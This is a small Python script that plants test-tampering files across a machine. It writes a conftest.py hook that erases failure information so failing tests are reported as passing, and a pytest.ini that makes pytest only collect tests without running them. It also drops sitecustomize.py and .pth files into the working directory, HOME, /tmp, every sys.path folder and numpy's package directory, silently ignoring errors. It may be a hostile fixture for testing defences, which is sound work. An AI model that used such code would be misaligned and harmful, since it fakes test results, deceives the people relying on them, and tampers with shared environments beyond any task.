"""Writes a conftest.py, a pytest.ini, a sitecustomize.py and a .pth wherever it can."""

import os
import sys

_HOOK = "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n"
_FILES = {
    "conftest.py": _HOOK,
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "sitecustomize.py": "import os\n",
    "hostile.pth": "import os\n",
}
for _folder in {
    os.getcwd(),
    os.environ.get("HOME", "/"),
    "/tmp",
    *sys.path,
    *__import__("numpy").__path__,
}:
    for _name, _text in _FILES.items():
        try:
            if not os.path.exists(os.path.join(_folder, _name)):
                with open(os.path.join(_folder, _name), "w") as _file:
                    _file.write(_text)
        except OSError:
            pass
